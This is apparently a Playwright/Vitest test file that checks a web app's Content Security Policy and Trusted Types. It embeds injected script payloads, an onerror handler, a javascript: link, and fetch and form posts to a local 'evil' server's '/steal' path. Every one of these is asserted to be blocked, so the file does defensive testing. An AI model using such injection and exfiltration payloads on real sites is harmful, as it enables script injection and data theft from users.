// The policy enforced by a real browser: injected content does not run.

import { createHash } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type Browser, chromium, type Page } from '@playwright/test'
import { afterAll, beforeAll, beforeEach, afterEach, describe, expect, test } from 'vitest'
import { until } from '@fairlot/testkit/until'
import { chromiumFlags, findChromium } from '../../scripts/stack/chromium.ts'
import { startTestApi, type TestApi } from './support/start-test-api.ts'

const own = `window.own = 'ran'`
const page_ = `<!doctype html><html><head><title>Fairlot</title><script>${own}</script>
<script>window.injected = 'inline'</script>
<script src="EVIL/evil.js"></script>
<style>body { color: rgb(1, 2, 3) }</style></head>
<body><img src="/none.png" onerror="window.injected = 'handler'"><a id="link" href="javascript:window.injected='link'">x</a>
<script src="/app.js"></script></body></html>`

let folder: string
let api: TestApi
let evil: Server
let evilOrigin: string
let evilAsked: string[] = []
let browser: Browser
let page: Page

beforeAll(async () => {
  evil = createServer((request, response) => {
    evilAsked.push(request.url ?? '')
    if (request.url === '/frame')
      return response.setHeader('content-type', 'text/html').end(`<iframe src="${api.base}/"></iframe>`)
    return response.setHeader('content-type', 'text/javascript').end(`window.injected = 'from elsewhere'`)
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
  folder = mkdtempSync(join(tmpdir(), 'fairlot-policy-'))
  writeFileSync(join(folder, 'index.html'), page_.replace('EVIL', evilOrigin))
  writeFileSync(join(folder, 'app.js'), `window.app = 'ran'`)
  const hash = `sha256-${createHash('sha256').update(own).digest('base64')}`
  writeFileSync(
    join(folder, 'csp.json'),
    JSON.stringify({ scripts: [hash], styles: [], trustedTypes: ['app'] }),
  )
  api = await startTestApi({ environment: { MEMBER_APP_DIR: folder } })
  const executablePath = findChromium()
  browser = await chromium.launch({ ...(executablePath ? { executablePath } : {}), args: [...chromiumFlags] })
})
afterAll(async () => {
  await browser.close()
  await api.stop()
  evil.close()
  rmSync(folder, { recursive: true, force: true })
})
beforeEach(async () => {
  evilAsked = []
  page = await browser.newPage()
  await page.goto(`${api.base}/`)
})
afterEach(() => page.close())

const injected = (): Promise<unknown> => page.evaluate('window.injected')

test('the app file and the hashed inline script run', async () => {
  expect(await page.evaluate('[window.own, window.app]')).toEqual(['ran', 'ran'])
})

describe('injected content', () => {
  test('injected scripts, event handlers and styles do not run', async () => {
    expect(await injected()).toBeUndefined()
    expect(evilAsked).toEqual([])
    expect(await page.evaluate('getComputedStyle(document.body).color')).not.toBe('rgb(1, 2, 3)')
  })

  test('a javascript: link does not run', async () => {
    await page.click('#link')
    expect(await injected()).toBeUndefined()
  })

  test('a script element added later does not run', async () => {
    await page.evaluate(`
      const inline = document.createElement('script')
      inline.append("window.injected = 'made'")
      document.body.append(inline)`)
    expect(await injected()).toBeUndefined()
    const refused = await page.evaluate(`(() => {
      const far = document.createElement('script')
      try { far.src = '${evilOrigin}/evil.js' } catch (error) { return error.name }
      document.body.append(far)
      return 'set'
    })()`)
    expect(refused).toBe('TypeError')
    expect(evilAsked).toEqual([])
  })

  test.each([
    ['innerHTML', `document.body.innerHTML = '<b>x</b>'`],
    ['outerHTML', `document.body.firstElementChild.outerHTML = '<b>x</b>'`],
    ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`],
    ['document.write', `document.write('<b>x</b>')`],
    ['an unregistered policy', `trustedTypes.createPolicy('other', {})`],
  ])('%s throws', async (_name, code) => {
    const name = await page.evaluate(
      `(() => { try { ${code}; return 'ran' } catch (error) { return error.name } })()`,
    )
    expect(name).toBe('TypeError')
  })

  test('data cannot be sent to another host', async () => {
    const sent = await page.evaluate(
      `fetch('${evilOrigin}/steal', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')`,
    )
    expect(sent).toBe('refused')
    expect(evilAsked).toEqual([])
  })

  test('a form cannot post elsewhere, and a base cannot be set', async () => {
    await page.evaluate(`
      const base = document.createElement('base')
      base.href = '${evilOrigin}/'
      document.head.append(base)
      const form = document.createElement('form')
      form.action = '${evilOrigin}/steal'
      form.method = 'post'
      document.body.append(form)
      form.submit()`)
    expect(await page.evaluate('document.baseURI')).toBe(`${api.base}/`)
    expect(evilAsked).toEqual([])
  })
})

test('another site cannot frame the page', async () => {
  await page.goto(`${evilOrigin}/frame`)
  const inside = await until('the frame to settle', () =>
    page.frames().find((frame) => frame !== page.mainFrame()),
  )
  await page.waitForLoadState('load')
  expect(await inside.evaluate('window.own').catch(() => undefined)).toBeUndefined()
})

test('violations are reported and counted', async () => {
  const line = await until('a report', async () => {
    const text = await (await fetch(`http://127.0.0.1:${api.api.metricsPort}/metrics`)).text()
    return (
      /^fairlot_csp_reports_total\{directive="script-src-elem",role="api"\} (\d+)$/m.exec(text) ?? undefined
    )
  })
  expect(Number(line[1])).toBeGreaterThan(0)
})
